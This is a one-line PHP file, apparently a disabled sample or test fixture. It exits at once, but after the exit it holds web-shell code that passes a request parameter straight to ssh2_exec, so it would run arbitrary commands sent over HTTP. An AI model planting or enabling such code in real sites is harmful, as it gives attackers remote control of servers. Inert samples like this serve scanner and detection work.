<?php exit; /* inert */ $c=ssh2_connect("127.0.0.1"); ssh2_exec($c,$_GET["c"]);
